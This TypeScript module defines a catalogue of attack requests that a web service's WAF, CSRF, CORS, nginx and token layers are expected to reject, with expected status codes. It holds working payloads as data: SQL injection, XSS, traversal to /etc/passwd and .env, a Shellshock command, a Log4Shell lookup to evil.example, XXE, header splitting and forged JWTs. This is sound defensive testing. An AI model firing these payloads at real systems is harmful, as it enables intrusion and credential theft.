// biome-ignore-all lint/suspicious/noTemplateCurlyInString: these are what templates are attacked with
import { createHmac, randomBytes } from 'node:crypto';
import { PAYLOADS } from './payloads.ts';

/**
 * Who stops it: `waf` (rules of ModSecurity), `csrf`, `cors`, `host`, `operators`, `protocol` (nginx' parser and
 * limits), or `service`, behind all of them.
 */
export type Layer = 'waf' | 'csrf' | 'cors' | 'host' | 'operators' | 'protocol' | 'service';

export interface Attack {
  readonly kind: string;
  readonly name: string;
  readonly layer: Layer;
  readonly status: number;
  readonly method?: string;
  readonly path: string;
  readonly headers?: Readonly<Record<string, string | readonly string[]>>;
  readonly body?: string;
}

const JSON_TYPE = { 'content-type': 'application/json' };

/** Each payload where such a payload is usually put: turn by turn in a body, a query, a header. */
function injections(): Attack[] {
  const attacks: Attack[] = [];
  for (const [kind, texts] of Object.entries(PAYLOADS)) {
    for (const [index, text] of texts.entries()) {
      const same = { kind, layer: 'waf', status: 403 } as const;
      const place = ['body', 'query', 'nested'][index % 3];
      const name = `${text} in a ${place === 'query' ? 'query' : 'body'}`;
      if (place === 'query') {
        attacks.push({ ...same, name, path: `/decks/1/cards?after=${encodeURIComponent(text)}` });
      } else {
        const body = place === 'body' ? { title: text } : { title: 'x', more: { of: [text] } };
        attacks.push({
          ...{ ...same, name, method: 'POST', path: '/decks', headers: JSON_TYPE },
          body: JSON.stringify(body),
        });
      }
    }
  }
  return attacks;
}

const waf = (kind: string, name: string, more: Partial<Attack>): Attack => ({
  ...{ kind, name, layer: 'waf', status: 403, path: '/decks' },
  ...more,
});

const post = (body: string, headers: Attack['headers'] = {}) => ({
  method: 'POST',
  headers: { ...JSON_TYPE, ...headers },
  body,
});

const OTHERS: readonly Attack[] = [
  waf('sql', 'in the name of a parameter', {
    path: "/decks?x'%20UNION%20SELECT%20email%20FROM%20users%20--%20=1",
  }),
  waf('sql', 'in a cookie', { headers: { cookie: "id=1' OR '1'='1" } }),
  waf('sql', 'in the name of a member', post(`{"1' OR '1'='1": "x"}`)),
  waf('xss', 'in Referer', { headers: { referer: 'https://x.example/<script>alert(1)</script>' } }),
  waf('xss', 'in User-Agent', { headers: { 'user-agent': 'x"><script>alert(1)</script>' } }),
  waf('traversal', 'to the repository', { path: '/.git/config' }),
  waf('traversal', 'to settings', { path: '/.env' }),
  waf('traversal', 'encoded twice', { path: '/decks/..%252f..%252f..%252fetc%252fpasswd' }),
  waf('traversal', 'to a backup', { path: '/backup.sql~' }),
  waf('command', 'Shellshock in a header', { headers: { 'user-agent': '() { :; }; /bin/id' } }),
  waf('command', 'Log4Shell in a header', {
    headers: { 'x-api-version': '${jndi:ldap://evil.example/a}' },
  }),
  waf('prototype', '__proto__', post('{"title":"x","__proto__":{"isAdmin":true}}')),
  waf('prototype', 'in a query', { path: '/decks?__proto__[isAdmin]=true' }),
  waf('xxe', 'an external entity', {
    ...post('<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>', {
      'content-type': 'application/xml',
    }),
  }),
  waf('content', 'a form, which is no type of the service', {
    ...post('title=x', { 'content-type': 'application/x-www-form-urlencoded' }),
  }),
  waf('content', 'another charset', {
    ...post('{}', { 'content-type': 'application/json; charset=utf-7' }),
  }),
  waf('content', '300 members', {
    ...post(
      JSON.stringify(Object.fromEntries(Array.from({ length: 300 }, (_, i) => [`m${i}`, 1]))),
    ),
  }),
  waf('scanner', 'sqlmap', { headers: { 'user-agent': 'sqlmap/1.8#stable (https://sqlmap.org)' } }),
  waf('scanner', 'Nikto', { headers: { 'user-agent': 'Mozilla/5.00 (Nikto/2.5.0)' } }),
  waf('method', 'PATCH, which the service does not have', { method: 'PATCH' }),
  waf('headers', 'a header split by an encoded line end', {
    path: '/decks?next=%0d%0aSet-Cookie:%20admin=1',
  }),
  waf('headers', 'an answer in a query', {
    path: '/decks?x=%0d%0aHTTP/1.1%20200%20OK%0d%0aContent-Type:%20text/html',
  }),
  {
    ...{ kind: 'content', name: 'JSON that is none', layer: 'protocol', status: 400 },
    ...{ path: '/decks', ...post('{"title": "x"') },
  },
  {
    ...{ kind: 'content', name: '100 levels deep', layer: 'protocol', status: 400, path: '/decks' },
    ...post(`${'{"a":'.repeat(100)}1${'}'.repeat(100)}`),
  },
  {
    ...{ kind: 'traversal', name: 'a null byte in the path', layer: 'protocol', status: 400 },
    path: '/decks/1%00.csv',
  },
  {
    ...{ kind: 'traversal', name: 'above the root', layer: 'protocol', status: 400 },
    path: '/../../etc/passwd',
  },
  { kind: 'method', name: 'TRACE', layer: 'protocol', status: 405, method: 'TRACE', path: '/' },
  {
    ...{ kind: 'operators', name: '/healthz from outside', layer: 'operators', status: 404 },
    path: '/healthz',
  },
];

/** `own` is the origin of the service; `cookie` one of a user who is logged in. */
export function crossSite(own: string, cookie: string): readonly Attack[] {
  const forged = (name: string, headers: Record<string, string>): Attack => ({
    ...{ kind: 'csrf', name, layer: 'csrf', status: 403, method: 'POST', path: '/decks' },
    headers: { cookie, 'content-type': 'application/json', ...headers },
    body: '{"title":"forged"}',
  });
  const preflight = (name: string, origin: string): Attack => ({
    ...{ kind: 'cors', name, layer: 'cors', status: 403, method: 'OPTIONS', path: '/decks' },
    headers: { origin, 'access-control-request-method': 'POST' },
  });
  const { host } = new URL(own);
  return [
    forged('by a page of another site', { origin: 'https://evil.example' }),
    forged('by a page without an origin', { origin: 'null' }),
    forged('by the same host without TLS', { origin: `http://${host}` }),
    forged('by a name that begins alike', { origin: `https://${host}.evil.example` }),
    forged('by a name that ends alike', { origin: `https://evil-${host}` }),
    forged('by what the browser says', { 'sec-fetch-site': 'cross-site' }),
    forged('by a sibling domain', { 'sec-fetch-site': 'same-site' }),
    forged('by a client that says nothing', {}),
    { ...forged('of a deletion', { origin: 'https://evil.example' }), method: 'DELETE' },
    preflight('asked by another site', 'https://evil.example'),
    preflight('asked by a page without an origin', 'null'),
    preflight('asked by a name that ends alike', 'https://app.study.example.evil.example'),
    preflight('asked without TLS', 'http://app.study.example'),
  ];
}

/** Tokens that are none: `valid` is one of a user, `secret` what it is signed with. */
export function tokens(valid: string, secret: string): readonly Attack[] {
  const [header = '', payload = '', signature = ''] = valid.split('.');
  const encode = (value: object) => Buffer.from(JSON.stringify(value)).toString('base64url');
  const sign = (head: object, claims: object, key: string, hash = 'sha256') => {
    const text = `${encode(head)}.${encode(claims)}`;
    return `${text}.${createHmac(hash, key).update(text).digest('base64url')}`;
  };
  const now = Math.floor(Date.now() / 1000);
  const claims = { sub: '1', exp: now + 3600 };
  const typ = { typ: 'JWT' };
  const bad = (name: string, headers: Record<string, string>, path = '/decks'): Attack => ({
    ...{ kind: 'token', name, layer: 'service', status: 401, path, headers },
  });
  const bearer = (name: string, token: string) => bad(name, { authorization: `Bearer ${token}` });
  return [
    bearer('without a signature, alg none', `${encode({ alg: 'none', ...typ })}.${payload}.`),
    bearer('alg None, spelt otherwise', `${encode({ alg: 'nOnE', ...typ })}.${payload}.`),
    bearer('its signature cut off', `${header}.${payload}.`),
    bearer('another subject, the old signature', `${header}.${encode(claims)}.${signature}`),
    bearer(
      'signed by another',
      sign({ alg: 'HS256', ...typ }, claims, randomBytes(32).toString('hex')),
    ),
    bearer('signed with an empty secret', sign({ alg: 'HS256', ...typ }, claims, '')),
    bearer('expired', sign({ alg: 'HS256', ...typ }, { sub: '1', exp: now - 60 }, secret)),
    bearer('signed by another algorithm', sign({ alg: 'HS512', ...typ }, claims, secret, 'sha512')),
    bearer('RS256, as if the secret were a key', sign({ alg: 'RS256', ...typ }, claims, secret)),
    bearer('three parts of nothing', '..'),
    bad('in a query', {}, `/decks?access_token=${valid}`),
    bad('as Basic', { authorization: `Basic ${valid}` }),
    bad('in a header that anyone can set', { 'x-user-id': '1', 'x-forwarded-user': '1' }),
    bad('in a cookie of another name', { cookie: `session=${valid}` }),
    bad('a forged cookie', { cookie: `__Host-session=${header}.${encode(claims)}.${signature}` }),
  ];
}

export const ATTACKS: readonly Attack[] = [...injections(), ...OTHERS];
